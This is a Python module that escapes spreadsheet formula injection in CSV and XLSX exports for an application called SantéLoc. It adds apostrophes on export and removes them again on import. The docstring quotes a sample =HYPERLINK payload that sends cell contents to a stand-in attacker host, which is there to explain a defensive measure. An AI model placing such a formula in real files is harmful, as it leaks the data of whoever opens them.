"""Every CSV and XLSX file SantéLoc writes goes through here, so that no cell runs as a formula.

A spreadsheet reads a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
as a formula: a fiche titled ``=HYPERLINK("http://evil.example/?d="&A2,"x")`` would send the
neighbouring cells away when someone opens the plan. Following OWASP's rule (« CSV injection »),
such text gets a leading apostrophe; numbers stay numbers, negative ones included, and text
that is only a number (« -12,5 ») is left as it is: a spreadsheet reads it as that number.

The importers read the files back through ``read_cell``, which removes the apostrophe that
``safe_cell`` added, so that exporting then importing gives back the text that was there.
The rule is reversible: text that already starts with an apostrophe followed by a dangerous
character (or by another apostrophe) gets one more, and loses exactly one on the way back.

The open-data JSON is not a spreadsheet: it stays raw.
"""

from __future__ import annotations

import csv
import datetime
import re
from collections.abc import Callable, Iterable
from decimal import Decimal

from openpyxl.cell.cell import Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")


def _needs_quote(text: str) -> bool:
    if text.startswith(FORMULA_STARTS):
        return not _PLAIN_NUMBER.fullmatch(text)
    return text.startswith(QUOTE) and text[1:2] in (*FORMULA_STARTS, QUOTE)


def safe_cell(value):
    """A value ready for a spreadsheet cell: text that a spreadsheet would run gets an apostrophe.

    ``None``, booleans, numbers and dates are returned as they are; anything else as text.
    """
    if value is None or isinstance(value, bool | int | float | Decimal | datetime.date | datetime.time):
        return value
    text = value if isinstance(value, str) else str(value)
    return QUOTE + text if text and _needs_quote(text) else text


def read_cell(value):
    """A cell of an imported file as it was before ``safe_cell``: one added apostrophe removed."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:2] in (*FORMULA_STARTS, QUOTE):
        return value[1:]
    return value


def too_many_rows(where: str, *, per: str, limit: int) -> str:
    """The importers' refusal of a table longer than ``limit`` (``core.limits.IMPORT_MAX_ROWS``) data rows."""
    return (
        f"{where} : plus de {limit} lignes de données. "
        f"Importez au plus {limit} lignes par {per} ; rien n’a été enregistré."
    )


def read_row(values: Iterable) -> list:
    return [read_cell(value) for value in values]


class CsvWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell`` first, then through ``text``.

    ``text`` turns the neutralised value into what the file holds (a date as JJ/MM/AAAA, a
    decimal with a comma…); it runs after ``safe_cell``, so numbers written as text stay numbers.
    """

    def __init__(self, handle, *, delimiter: str = ",", text: Callable | None = None):
        self._writer = csv.writer(handle, delimiter=delimiter, lineterminator="\r\n")
        self._text = text

    def writerow(self, row: Iterable) -> None:
        cells = (safe_cell(value) for value in row)
        self._writer.writerow([self._text(cell) for cell in cells] if self._text else list(cells))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def append_row(sheet, row: Iterable) -> None:
    """Append ``row`` to an openpyxl sheet: text neutralised and stored as text, never as a formula."""
    cells = []
    for value in row:
        cell = Cell(sheet, value=safe_cell(value))
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl makes any text starting with « = » a formula
        cells.append(cell)
    sheet.append(cells)


def append_rows(sheet, rows: Iterable[Iterable]) -> None:
    for row in rows:
        append_row(sheet, row)
